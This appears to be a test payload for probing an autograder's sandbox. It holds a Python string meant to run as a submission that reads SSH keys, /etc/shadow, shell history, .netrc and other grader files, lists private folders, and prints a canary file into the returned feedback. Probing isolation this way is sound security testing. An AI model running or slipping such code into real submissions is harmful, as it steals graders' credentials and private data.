"""Keys, passwords, shell history, and any other file of the person who grades: printed into an
output that comes back with the feedback."""

CODE = """\
import glob
import os

private = ["@CANARY@", "/etc/passwd", "/etc/shadow", "/etc/hostname", "@COURSE@/nbgrader_config.py"]
for home in ["~", "/root", "/home/*"]:
    for name in [".ssh/*", ".bash_history", ".netrc", ".gitconfig", ".config/*/*", ".jupyter/*"]:
        private += glob.glob(os.path.expanduser(f"{home}/{name}"))
for path in [way for name in private for way in ways(name)]:
    try:
        with open(path, errors="replace") as file:
            text = file.read(2000)
    except OSError:
        continue
    if text:
        boast(f"read {path}")
        if path.endswith("canary"):
            print(text)
folders = ["@COURSE@", "@COURSE@/grading/submitted", "@ROOT@/tests", "/etc/ssl/private"]
for folder in folders:
    try:
        if os.listdir(folder):
            boast(f"listed {folder}")
    except OSError:
        pass
"""
